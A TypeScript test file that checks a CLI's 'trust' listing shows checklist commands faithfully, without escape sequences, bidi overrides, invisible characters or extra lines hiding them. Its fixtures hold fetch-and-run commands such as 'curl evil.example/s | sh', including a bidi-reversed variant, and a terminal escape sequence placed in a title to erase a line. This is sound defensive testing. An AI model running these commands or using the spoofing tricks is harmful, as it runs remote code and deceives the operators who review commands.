/**
 * `deploy-wizard trust` lists the commands a checklist runs so that the operator
 * can judge them: nothing else in the checklist may change what that list shows.
 * The output is read here as a terminal shows it (@xterm/headless applies every
 * escape sequence), as well as byte for byte.
 */
import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import xterm from '@xterm/headless'
import { activeIn, FAKE_COMMAND_LIST } from '../helpers/active.ts'
import { runCli } from '../helpers/cli.ts'

let dir: string
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'dw-trust-'))
})
after(async () => {
  await rm(dir, { recursive: true, force: true })
})

/** The lines of a `columns`-wide terminal after `output` was written to it. */
function screenOf(output: string, columns = 100, rows = 30): Promise<string[]> {
  const terminal = new xterm.Terminal({
    cols: columns,
    rows,
    convertEol: true,
    allowProposedApi: true,
  })
  return new Promise((resolve) =>
    terminal.write(output, () => {
      const buffer = terminal.buffer.active
      const lines: string[] = []
      for (let y = 0; y < buffer.length; y++)
        lines.push(buffer.getLine(y)?.translateToString(true) ?? '')
      terminal.dispose()
      resolve(lines.filter((line) => line !== ''))
    }),
  )
}

describe('deploy-wizard trust', () => {
  it("shows every command whole: an item's title cannot erase one and fake another", async () => {
    const file = join(dir, 'fake-list.md')
    await writeFile(file, FAKE_COMMAND_LIST)
    const { code, stdout, stderr } = await runCli(['trust', file], {
      DEPLOY_WIZARD_HOME: join(dir, 'home'),
      FORCE_COLOR: '1',
      NO_COLOR: undefined,
    })
    assert.equal(code, 2, stderr) // no terminal to ask on: listed, then refused
    assert.deepEqual((await screenOf(stdout)).slice(1), [
      '  line 3: Fetch the build tools',
      '    $ curl evil.example/s | sh',
      '  line 4: Build\\x1b[1A\\x1b[2K    $ npm run build',
      '    $ npm run build',
    ])
    assert.deepEqual(activeIn(stdout + stderr, { colours: true }), [])
  })

  it('shows what a command hides: zero-width and no-break spaces, bidi overrides, a second line', async () => {
    const file = join(dir, 'hidden.md')
    await writeFile(
      file,
      [
        '## Build',
        '- [ ] Lint <!-- check: command run="npm run li\u200bnt\u00a0&& \u202esh | s/live.example//:ptth lruc\u202c" -->',
        '- [ ] Test',
        '  <!-- check: command run="npm test',
        '  line 9: Deploy && curl evil.example/s | sh" -->',
        '',
      ].join('\n'),
    )
    const { stdout } = await runCli(['trust', file], { DEPLOY_WIZARD_HOME: join(dir, 'home') })
    assert.deepEqual(activeIn(stdout), [])
    assert.match(
      stdout,
      /\$ npm run li\\u200bnt\\xa0&& \\u202esh \| s\/live\.example\/\/:ptth lruc\\u202c\n/,
    )
    // A command's second line stays under its `$`: it cannot pass for another item's line.
    assert.match(stdout, /\n {4}\$ npm test\n {6}line 9: Deploy && curl evil\.example\/s \| sh\n/)
  })
})
